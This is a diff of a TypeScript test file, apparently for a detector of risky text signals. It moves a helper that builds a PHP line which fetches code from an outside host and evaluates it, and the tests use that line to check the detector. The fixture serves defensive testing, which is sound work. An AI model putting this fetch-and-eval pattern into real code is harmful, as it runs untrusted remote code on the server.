@@ -13,6 +13,7 @@ import { selfModification } from "./self-modification.ts";
 
 /* Texts at the edges of several signals: where one begins, another ends, or neither is meant. */
 
+const fetches = (host: string) => `eval(file_get_contents("https://${host}/a"));`;
 const marked = (text: string, format: TextFormat = "markdown") => markText(text, format);
 
 test("a line that demands secrets is reported once, and other lines for themselves", () => {
@@ -39,7 +40,6 @@ test("evaluated code counts in code, not in a sentence about it", () => {
   expect(matchingLines(marked(`It runs ${page}`), evaluatedCode)).toEqual([]);
   expect(evaluatedIn(code)).toBeDefined();
   expect(evaluatedIn("eval(1)")).toBeUndefined();
-  const fetches = (host: string) => `eval(file_get_contents("https://${host}/a"));`;
   expect(evaluatedIn(fetches("in.zzz.io"))).toContain("in.zzz.io");
   expect(evaluatedIn(fetches("127.0.0.1"))).toBeUndefined();
 });
